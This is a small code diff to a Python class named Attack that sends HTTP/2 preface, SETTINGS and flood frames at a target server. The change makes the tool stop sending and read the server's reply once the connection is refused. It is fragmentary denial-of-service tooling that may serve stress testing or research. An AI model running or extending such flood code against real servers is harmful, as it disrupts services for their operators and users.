@@ -229,6 +229,7 @@ class Attack:
         self.ended = False
         self.sent_bytes = 0
         self._reads = flood.reads
+        self._refused = False  # the server takes nothing more
         self._received = b""
         self._pieces = itertools.chain([PREFACE + frame(SETTINGS, 0, 0, flood.settings)], flood.frames(target))
         self._pending = b""
@@ -243,7 +244,7 @@ class Attack:
         deadline = time.monotonic() + seconds
         while not self.ended and (left := deadline - time.monotonic()) > 0:
             more = self._refill()
-            reading = [self._socket] if self._reads or not more else []
+            reading = [self._socket] if self._reads or self._refused else []
             readable, writable, _ = select.select(reading, [self._socket] if more else [], [], min(left, 0.1))
             if readable:
                 self._take()
@@ -262,7 +263,7 @@ class Attack:
         except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
             return
         except OSError:
-            self._pending, self._pieces = b"", iter(())
+            self._pending, self._pieces, self._refused = b"", iter(()), True
             self._take()  # what the server had to say
             return
         self.sent_bytes += sent
